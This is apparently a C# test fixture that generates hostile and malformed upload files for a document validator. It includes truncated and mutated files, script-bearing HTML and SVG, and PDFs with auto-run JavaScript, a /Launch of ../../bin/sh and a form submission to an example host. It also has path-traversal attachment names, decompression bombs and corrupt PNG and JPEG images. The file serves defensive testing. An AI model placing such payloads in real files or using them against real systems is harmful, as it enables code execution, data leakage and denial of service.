using System.IO.Compression;
using System.Text;
using Pst.Web.Softcopies;

namespace Pst.Web.Tests.Softcopies;

/// <summary>A file that means no good, or that nobody meant.</summary>
/// <param name="Reason">
/// What has to be answered; null where any reason will do, and taking it too, for what comes out is proven to be sound.
/// </param>
internal sealed record HostileFile(string Name, byte[] Content, FileFault? Reason);

/// <summary>Files that were cut, changed at random by a seed, or made by hand to break whoever reads them.</summary>
internal static class HostileFiles
{
    static readonly byte[] Zeros = new byte[1 << 20];

    /// <summary>A real file, cut somewhere: each is refused.</summary>
    public static IEnumerable<HostileFile> Cut(string kind, byte[] real, int count, int seed)
    {
        var chance = new Random(seed);
        foreach (var index in Enumerable.Range(0, count))
            yield return new($"{kind} cut {index}", real[..chance.Next(16, real.Length - 16)], FileFault.Truncated);
    }

    /// <summary>A real file with some bytes changed, or a stretch of it gone, doubled or emptied.</summary>
    public static IEnumerable<HostileFile> Changed(string kind, byte[] real, int count, int seed)
    {
        var chance = new Random(seed);
        foreach (var index in Enumerable.Range(0, count))
        {
            var (from, length) = (chance.Next(8, real.Length - 64), chance.Next(1, 48));
            byte[] changed = (index % 4) switch
            {
                0 => [.. real.Select((it, at) => at > 8 && chance.Next(real.Length) < 6 ? (byte)chance.Next(256) : it)],
                1 => [.. real[..from], .. real[(from + length)..]],
                2 => [.. real[..(from + length)], .. real[from..]],
                _ => [.. real[..from], .. Zeros[..length], .. real[(from + length)..]],
            };
            yield return new($"{kind} changed {index}", changed, null);
        }
    }

    /// <summary>What is none of what is taken, whatever it calls itself.</summary>
    public static IEnumerable<HostileFile> WrongTypes() =>
        from it in (string[])
        [
            "MZ\u0090 program", "PK\u0003\u0004 arsip", "<html><script>alert(1)</script>", "<svg onload='x()'/>", "GIF89a", "#!/bin/sh",
            " %PDF-1.7",
        ]
        select new HostileFile(it, Encoding.Latin1.GetBytes(it), FileFault.UnknownType);

    /// <summary>PDFs that do something, or that hide it.</summary>
    public static IEnumerable<HostileFile> Active()
    {
        HostileFile Of(string name, string root, FileFault reason) => new(name, Pdf(root), reason);
        yield return Of("script", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", FileFault.HasScript);
        yield return Of("script under a name in disguise", "/OpenAction << /S /J#61vaScript /J#53 (x) >>", FileFault.HasScript);
        yield return Of("script by name", "/Names << /JavaScript << /Names [(a) << /JS (x) >>] >> >>", FileFault.HasScript);
        yield return Of("program", "/OpenAction << /S /Launch /F (../../bin/sh) >>", FileFault.HasScript);
        yield return Of("form of scripts", "/AcroForm << /XFA (x) >>", FileFault.HasScript);
        yield return Of("sends a form", "/OpenAction << /S /SubmitForm /F (http://x.example) >>", FileFault.HasScript);
        yield return Of("attachment", "/Names << /EmbeddedFiles << /Names [(../../x) << /EF << >> >>] >> >>", FileFault.HasAttachment);
        yield return new("script beside a page", Pdf("", "/AA << /O << /S /JavaScript /JS (x) >> >>"), FileFault.HasScript);
    }

    /// <summary>PDFs that lead in circles, lie, or unpack without end.</summary>
    public static IEnumerable<HostileFile> Bombs()
    {
        HostileFile Tree(string name, string tree, FileFault reason) => new(name, Raw("<< /Type /Catalog /Pages 2 0 R >>", tree), reason);
        yield return Tree("tree in a circle", "<< /Type /Pages /Count 1 /Kids [2 0 R] >>", FileFault.Damaged);
        yield return Tree("tree of nothing", "<< /Type /Pages /Count 5 /Kids [9 0 R] >>", FileFault.Damaged);
        yield return Tree("says more pages", "<< /Type /Pages /Count 1999999999 /Kids [] >>", FileFault.TooManyPages);
        yield return new("no tree", Raw("<< /Type /Catalog >>"), FileFault.Damaged);
        yield return new("itself", Raw("1 0 R"), FileFault.Damaged);
        yield return new("deep", Raw($"<< /Type /Catalog /Pages {new string('[', 100_000)} >>"), FileFault.Damaged);
        yield return new("many pages", Workshop.Book(2001), FileFault.TooManyPages);
        yield return new("table in a circle", Encoding.Latin1.GetBytes(
            "%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n"),
            FileFault.Damaged);
        yield return new("length of the world", Encoding.Latin1.GetBytes(
            Encoding.Latin1.GetString(Pdf("")).Replace("/Length ", "/Length 99999999", StringComparison.Ordinal)), null);
        var endless = Packed(Packed(Zeros, 8000), 1);
        yield return new("unpacks without end", Pdf("", content: endless, filter: "[/FlateDecode /FlateDecode]"), FileFault.Damaged);
        yield return new(
            "unpacks to something else", Pdf("", content: "bukan zlib"u8.ToArray(), filter: "/FlateDecode"), FileFault.Damaged);
    }

    /// <summary>Pictures that are not what they say.</summary>
    public static IEnumerable<HostileFile> Pngs()
    {
        byte[] Png(params IEnumerable<(string Name, byte[] Body)> chunks) =>
            [.. Workshop.Png(1, 1)[..8], .. chunks.SelectMany(it => Workshop.PngChunk(it.Name, it.Body))];
        byte[] Head(int width, int height, params byte[] rest) => [.. Workshop.Big(width), .. Workshop.Big(height), .. rest];
        (string, byte[]) end = ("IEND", []), small = ("IHDR", Head(4, 4, 8, 0, 0, 0, 0));
        yield return new("wide png", Png(("IHDR", Head(int.MaxValue, 1, 8, 0, 0, 0, 0)), end), FileFault.TooManyPixels);
        yield return new("large png", Png(("IHDR", Head(15_000, 15_000, 8, 2, 0, 0, 0)), end), FileFault.TooManyPixels);
        yield return new("negative png", Png(("IHDR", Head(-1, 4, 8, 0, 0, 0, 0)), end), FileFault.Damaged);
        yield return new("png bomb", Png(small, ("IDAT", Packed(Zeros, 200)), end), FileFault.Damaged);
        yield return new("short png", Png(small, ("IDAT", Packed([0, 1], 1)), end), FileFault.Truncated);
        yield return new("png of nothing", Png(small, end), null);
        yield return new("png of noise", Png(small, ("IDAT", [1, 2, 3, 4]), end), FileFault.Damaged);
        yield return new("png without a head", Png(end), FileFault.Damaged);
        yield return new("png with two heads", Png(small, small, end), FileFault.Damaged);
        var coloured = Png(("IHDR", Head(4, 4, 8, 3, 0, 0, 0)), ("IDAT", Packed([0], 20)), end);
        yield return new("png without colours", coloured, FileFault.Damaged);
        yield return new("interlaced png", Png(("IHDR", Head(4, 4, 8, 0, 0, 0, 1)), end), FileFault.UnsupportedImage);
        yield return new("endless chunk", [.. Workshop.Png(4, 4)[..8], 0xff, 0xff, 0xff, 0xff, .. "IDATxxxx"u8], FileFault.Truncated);
    }

    /// <inheritdoc cref="Pngs"/>
    public static IEnumerable<HostileFile> Jpegs(byte[] jpeg)
    {
        var frame = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xff, 0xc0]);
        yield return new("large jpeg", [.. jpeg[..(frame + 5)], 0xff, 0xff, 0xff, 0xff, .. jpeg[(frame + 9)..]], FileFault.TooManyPixels);
        yield return new("jpeg of twelve bits", [.. jpeg[..(frame + 4)], 12, .. jpeg[(frame + 5)..]], FileFault.UnsupportedImage);
        yield return new("jpeg of marks", [0xff, 0xd8, .. Enumerable.Repeat((byte)0xff, 2_000_000)], FileFault.Truncated);
        yield return new("jpeg without a picture", [0xff, 0xd8, 0xff, 0xd9], FileFault.Damaged);
        yield return new("jpeg of no length", [0xff, 0xd8, 0xff, 0xe0, 0, 0, .. new byte[64]], FileFault.Damaged);
        var scan = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xff, 0xda]);
        var again = jpeg[scan..^2];
        yield return new("jpeg of a thousand scans",
            [.. jpeg[..^2], .. Enumerable.Repeat(again, 200).SelectMany(it => it), 0xff, 0xd9], FileFault.Damaged);
    }

    public static byte[] Packed(byte[] content, int times)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            for (var time = 0; time < times; time++) zlib.Write(content);
        return packed.ToArray();
    }

    static byte[] Pdf(string root, string page = "", byte[]? content = null, string? filter = null)
    {
        var drawn = content ?? "q Q"u8.ToArray();
        var coded = filter is null ? "" : $"/Filter {filter} ";
        return Raw(
            $"<< /Type /Catalog /Pages 2 0 R {root} >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R {page} >>",
            $"<< {coded}/Length {drawn.Length} >>\nstream\n{Encoding.Latin1.GetString(drawn)}\nendstream");
    }

    // As it stands, with a table that is right.
    static byte[] Raw(params string[] objects)
    {
        var (file, places) = (new StringBuilder("%PDF-1.7\n"), new List<int>());
        foreach (var (index, one) in objects.Index())
        {
            places.Add(file.Length);
            file.Append(PdfPages.Text($"{index + 1} 0 obj\n{one}\nendobj\n"));
        }
        var table = file.Length;
        file.Append(PdfPages.Text($"xref\n0 {places.Count + 1}\n0000000000 65535 f \n"));
        foreach (var place in places) file.Append(PdfPages.Text($"{place:D10} 00000 n \n"));
        file.Append(PdfPages.Text($"trailer\n<< /Size {places.Count + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n"));
        return Encoding.Latin1.GetBytes(file.ToString());
    }
}
